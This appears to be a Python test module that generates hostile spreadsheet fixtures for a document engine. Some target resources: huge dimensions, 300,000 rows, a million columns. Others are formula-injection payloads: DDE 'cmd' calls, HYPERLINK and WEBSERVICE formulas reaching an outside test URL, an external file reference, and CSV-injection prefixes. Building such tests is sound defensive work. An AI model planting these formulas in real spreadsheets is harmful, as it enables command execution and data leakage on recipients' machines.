"""Sheets: a cell in the far corner, rows without end, formulas that are somebody else's commands."""

from __future__ import annotations

import io

from openpyxl import Workbook

from tests.engines import samples
from tests.hostile.kinds.kind import Outside, kind


def _corner(_: Outside) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["XFD1048576"] = "起", "止"
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def _rows(count: int) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for n in range(count):
        sheet.append([n, "文", n * n])
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def _formulas(out: Outside) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["名称", f'=HYPERLINK("{out.url}/xlsx-link","点我")'])
    sheet.append(["服务", f'=WEBSERVICE("{out.url}/xlsx-service")'])
    sheet.append(["命令", "=cmd|'/c calc'!A0"])
    sheet.append(["外部", f"='{out.text.removeprefix('file://')}'#$Sheet1.A1"])
    sheet.append(["互相", "=B6", "=C5"])
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def _dimension(_: Outside) -> bytes:
    """A sheet that says it is full to the far corner and holds one cell."""
    parts = samples.members(samples.xlsx([["一"]]))
    name = "xl/worksheets/sheet1.xml"
    return samples.zipped({**parts, name: parts[name].replace(b'ref="A1"', b'ref="A1:XFD1048576"')})


_CSV = "名称,数量\n=cmd|' /C calc'!A0,1\n@SUM(1+1)*cmd|' /C calc'!A0,2\n+1+1,3\n-1-1,4\n\t=1,5\n"
_STOPPED = "text only: timeout | text only: memory | kept: timeout | kept: memory"

KINDS = (
    kind(
        "xlsx-far-corner.xlsx",
        f"published | {_STOPPED} | kept: too_many_pages | text only: too_many_pages | text only: output_too_big",
        _corner,
        dear=True,
    ),
    kind(
        "xlsx-rows.xlsx",
        f"published | {_STOPPED} | kept: too_many_pages | text only: too_many_pages",
        lambda _: _rows(300_000),
        dear=True,
    ),
    kind("xlsx-formulas.xlsx", "published", _formulas),
    kind("xlsx-dimension-lies.xlsx", "published", _dimension),
    kind("formulas.csv", "published", lambda _: _CSV.encode()),
    kind("csv-million-columns.csv", "published", lambda _: b"a," * 1_000_000, dear=True),
)
